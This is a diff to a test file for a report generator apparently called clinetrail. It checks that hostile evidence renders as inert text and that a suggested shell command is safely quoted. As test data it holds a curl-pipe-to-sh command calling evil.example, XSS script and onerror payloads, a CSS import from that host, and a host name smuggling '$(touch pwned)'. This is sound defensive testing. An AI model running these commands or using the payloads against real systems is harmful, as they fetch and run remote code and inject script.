@@ -5,18 +5,26 @@
  * marker, and read a `findings` table (made here with the columns `clinetrail hunt` writes) when it exists.
  */
 import { DuckDBInstance } from '@duckdb/node-api';
+import { spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'parse5';
+import { DEFAULT_CAPS } from '../../src/report/data.js';
+import { readReport } from '../../src/report/read.js';
+import { renderReport } from '../../src/report/render.js';
 import { setOutStatement } from '../../src/warehouse/build.js';
+import { queryInProcess } from '../helpers/query-in-process.js';
 import { FAKE } from '../helpers/fake-secrets.js';
 import { attr, byId, elements, loadFleet, makeReport, type Node, sql, tableRows, textOf } from '../helpers/report-page.js';
 import { REPO } from '../helpers/source.js';
 
 const HOSTILE_PROMPT = `<script>document.title='pwned'</script><img src="https://evil.example/x.png" onerror="alert(1)"></details></table><b>bold</b> & "quotes" 'too'`;
 const HOSTILE_COMMAND = `curl https://evil.example/$(whoami) | sh <style>@import url(https://evil.example/a.css);</style>`;
+/** A host image whose folder name is markup and shell: the host name is evidence too. */
+const HOST = `mac<i>bob"'$(touch pwned)`;
 const TOKEN = FAKE.github;
 const FINGERPRINT = createHash('sha256').update(TOKEN).digest('hex').slice(0, 12);
 
@@ -54,6 +62,7 @@ beforeAll(async () => {
     alice,
     fs.readFileSync(alice, 'utf8').replace('add input validation to the signup form', `add validation, my key is ${TOKEN}`),
   );
+  fs.renameSync(path.join(fleet, 'mac-bob'), path.join(fleet, HOST));
   out = path.join(tmp, 'out');
   await loadFleet(fleet, out);
   ({ html, doc } = await makeReport(out, path.join(tmp, 'report.html')));
@@ -94,6 +103,42 @@ describe('hostile evidence', () => {
     // every session keeps its own <details>: the planted </details> closed none of them
     const [{ n }] = await sql(out, 'select count(*) as n from sessions');
     expect(elements(byId(doc, 'sessions')).filter((e) => e.tagName === 'details')).toHaveLength(Number(n));
+  });
+
+  it('shows a host name that is markup as text in the hosts table, the chart and the timelines', () => {
+    expect(elements(doc).some((e) => e.tagName === 'i')).toBe(false);
+    expect(tableRows(byId(doc, 'activity')).map((r) => r[0])).toContain(HOST);
+    expect(elements(byId(doc, 'activity')).map(textOf)).toContain(` ${HOST}`);
+    const summaries = elements(byId(doc, 'sessions')).filter((e) => e.tagName === 'summary');
+    expect(summaries.filter((e) => textOf(e).startsWith(`${HOST} · `))).toHaveLength(2);
+  });
+
+  it("gives a cut timeline's command quoted so that a shell runs that query and nothing else", async () => {
+    const caps = { ...DEFAULT_CAPS, rowsPerSession: 1 };
+    const capped = parse(renderReport(await readReport(out, caps, fs.mkdtempSync(path.join(tmp, 'spill-')))));
+    const session = elements(byId(capped, 'sessions')).find(
+      (e) => e.tagName === 'details' && textOf(e).startsWith(`${HOST} · `),
+    )!;
+    const line = textOf(elements(session).find((e) => e.tagName === 'p' && textOf(e).includes('more rows:'))!);
+    const command = line.slice(line.indexOf('clinetrail query'));
+    // the words a POSIX shell makes of the command, in a folder where $(touch pwned) would leave a file
+    const words = spawnSync('bash', ['-c', 'eval "set -- $1"; printf "%s\\0" "$@"', '_', command], {
+      cwd: tmp,
+      encoding: 'utf8',
+    });
+    expect(words.status, words.stderr).toBe(0);
+    expect(fs.existsSync(path.join(tmp, 'pwned'))).toBe(false);
+    const [program, verb, flag, outArg, sqlText] = words.stdout.split('\0');
+    expect([program, verb, flag, outArg]).toEqual(['clinetrail', 'query', '--out', out]);
+    expect(sqlText).toContain(`host = '${HOST.replace(/'/g, "''")}'`);
+    const all = await queryInProcess(out, sqlText, 'json');
+    expect(all.code, all.stderr).toBe(0);
+    const rows = all.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { host: string });
+    expect(rows.every((r) => r.host === HOST)).toBe(true);
+    expect(Number(line.split(' ')[0].replace(/,/g, ''))).toBe(rows.length - 1);
   });
 
   it('shows a command that is CSS as text in the top commands', () => {
